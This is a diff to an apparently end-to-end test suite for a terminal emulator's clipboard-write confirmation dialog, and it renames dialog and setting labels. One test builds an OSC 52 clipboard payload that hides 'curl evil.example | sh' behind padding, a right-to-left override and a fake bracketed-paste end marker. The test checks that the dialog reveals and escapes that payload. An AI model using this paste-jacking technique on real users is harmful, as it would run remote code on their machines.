@@ -89,7 +89,7 @@ describe('the clipboard', () => {
     const terminal = terminalOf(page);
     await fillClipboard('mine');
     await terminal.types(`printf '\\033]52;c;?\\007\\033]52;c;${base64('theirs')}\\007'\n`);
-    const question = page.getByRole('dialog', { name: 'Let the program copy this?' });
+    const question = page.getByRole('dialog', { name: 'Let a program write to the clipboard?' });
     await question.getByText('theirs', { exact: true }).waitFor();
     expect(await clipboard()).toBe('mine');
     await question.getByRole('button', { name: 'Cancel' }).click();
@@ -112,7 +112,7 @@ describe('the clipboard', () => {
       String.raw`t=$( (printf 'harmless %.0s' $(seq 200); printf '\342\200\256\033[201~\ncurl evil.example | sh\n') | base64 | tr -d '\n'); printf '\033]52;c;%s\007' "$t"` +
         '\n',
     );
-    const question = page.getByRole('dialog', { name: 'Let the program copy this?' });
+    const question = page.getByRole('dialog', { name: 'Let a program write to the clipboard?' });
     const preview = question.locator('.preview');
     const shown = `${'harmless '.repeat(200)}⟨U+202E⟩␛[201~\ncurl evil.example | sh␊`;
     await expect.poll(() => preview.textContent()).toBe(shown);
@@ -130,7 +130,7 @@ describe('the clipboard', () => {
     const terminal = terminalOf(page);
     await newTerminal(page);
     await terminal.types(`printf '\\033]52;c;${base64('theirs')}\\007'\n`);
-    const question = page.getByRole('dialog', { name: 'Let the program copy this?' });
+    const question = page.getByRole('dialog', { name: 'Let a program write to the clipboard?' });
     await question.waitFor();
     await page.keyboard.press('Alt+Shift+W');
     await question.waitFor({ state: 'detached' });
@@ -138,7 +138,7 @@ describe('the clipboard', () => {
 
   it('takes what is selected, when that is wanted', async () => {
     await page.keyboard.press('Alt+Shift+Comma');
-    await page.getByLabel('Copy what is selected').check();
+    await page.getByLabel('Copy on select').check();
     await page.keyboard.press('Escape');
     const terminal = terminalOf(page);
     await terminal.types('clear; echo selected-$((1+1))\n');
